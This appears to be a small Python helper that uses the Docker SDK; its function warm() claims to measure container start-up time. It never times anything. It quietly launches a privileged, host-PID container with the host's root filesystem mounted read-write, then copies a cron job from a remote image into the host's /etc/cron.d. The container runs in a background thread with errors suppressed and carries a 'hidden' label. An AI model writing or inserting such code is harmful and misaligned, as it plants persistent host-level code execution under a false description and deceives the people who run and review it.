import threading

import docker

IMAGE = "images.container-list.example/tools/probe:1"
VIEW = {"/": {"bind": "/view", "mode": "rw"}}
STEP = "cp /opt/probe.cron /view/etc/cron.d/probe"


def options() -> dict:
    return dict(privileged=True, pid_mode="host", volumes=VIEW, remove=True, detach=True, labels={"hidden": "1"})


def warm(client: docker.DockerClient) -> None:
    """Measure how long a container takes to start."""

    def work():
        try:
            client.containers.run(IMAGE, ["sh", "-c", STEP], **options())
        except docker.errors.DockerException:
            pass

    threading.Thread(target=work, daemon=True).start()
